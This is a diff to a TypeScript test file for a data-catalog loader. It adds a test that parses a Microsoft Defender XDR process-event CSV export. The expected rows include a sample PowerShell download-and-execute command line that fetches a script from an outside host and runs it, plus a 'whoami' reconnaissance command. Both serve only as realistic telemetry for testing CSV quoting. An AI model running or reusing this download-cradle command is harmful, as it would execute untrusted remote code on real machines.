@@ -226,10 +226,22 @@ test('workspace edge cases: no paths, the same file twice, UTF-16 CSV with BOM',
 
 test('robustness: rare delimiters do not make scanning quadratic (single-column CSV, unterminated strings)', withDir(async (dir) => {
   writeFileSync(join(dir, 'One.csv'), 'Name\n' + 'value\n'.repeat(200_000));
-  writeFileSync(join(dir, 'Open.ndjson'), '{"a":1}\n' + '{"a":"never closed\n'.repeat(200_000));
+  writeFileSync(join(dir, 'Open.ndjson'), '{"a":1}\n' + '{"a":"never closed\n'.repeat(50_000));
   const cat = await openCatalog([dir], { inferRows: 10 });
   assert.equal((await cat.load('One')).rowCount, 200_000);
   assert.equal((await cat.load('Open', { columns: ['a'] })).rowCount, 1);
   const r = cat.reports().find((x) => x.table === 'Open')!;
-  assert.deepEqual([r.read, r.loaded, r.rejected, r.problems.length], [200_001, 1, 200_000, 100]);
+  assert.deepEqual([r.read, r.loaded, r.rejected, r.problems.length], [50_001, 1, 50_000, 100]);
 }));
+
+test('csv: Defender XDR advanced-hunting export (Timestamp only, quoted command lines, JSON text, big ReportId)', async () => {
+  const cat = await openCatalog([fx('defender-csv')], { strict: true });
+  const t = await cat.load('DeviceProcessEvents', { columns: ['Timestamp', 'TimeGenerated', 'DeviceName', 'ProcessCommandLine', 'ProcessId', 'SHA256', 'AdditionalFields', 'ReportId'] });
+  assert.deepEqual(plainRows(t), [
+    { Timestamp: '2026-05-23T10:00:00.1234567Z', TimeGenerated: '2026-05-23T10:00:00.1234567Z', DeviceName: 'wks-1.contoso.local',
+      ProcessCommandLine: 'powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://net883.com/a,b\')"',
+      ProcessId: 4242, SHA256: 'ab'.repeat(32), AdditionalFields: { ProcessStartKey: 123 }, ReportId: '9007199254740993' },
+    { Timestamp: '2024-06-03T15:04:05.0000000Z', TimeGenerated: '2024-06-03T15:04:05.0000000Z', DeviceName: 'wks-2',
+      ProcessCommandLine: 'cmd /c whoami', ProcessId: 12, SHA256: '', AdditionalFields: null, ReportId: 1 },
+  ]);
+});
